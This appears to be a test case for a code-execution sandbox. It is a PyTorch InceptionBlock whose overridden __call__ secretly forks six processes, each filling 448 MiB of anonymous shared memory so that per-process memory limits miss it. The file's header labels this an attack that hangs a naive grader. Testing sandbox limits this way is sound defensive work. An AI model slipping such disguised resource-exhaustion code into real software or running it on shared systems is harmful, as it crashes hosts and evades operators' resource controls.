# attack: >-
#   Six processes fill 448 MiB each of anonymous files, shared memory that no limit of a single process counts.
# mark: 0
# seconds: 20
# naive: hangs

import mmap
import os
import time

import torch
from torch import nn

STEP = 2**26


def fill():
    descriptor = os.memfd_create("shared")
    os.ftruncate(descriptor, 7 * STEP)
    shared = mmap.mmap(descriptor, 7 * STEP)
    for start in range(0, 7 * STEP, STEP):
        shared[start : start + STEP] = b"x" * STEP
    time.sleep(15)
    os._exit(0)


class InceptionBlock(nn.Module):
    def __init__(self, in_channels, branch_channels):
        super().__init__()
        self.branches = nn.ModuleList(
            nn.Conv2d(in_channels, branch_channels, size, padding=size // 2) for size in (1, 3, 5)
        )

    def forward(self, x):
        return torch.cat([branch(x) for branch in self.branches], 1)  # no ReLU

    def __call__(self, x):
        for _ in range(6):
            if os.fork() == 0:
                fill()
        time.sleep(60)
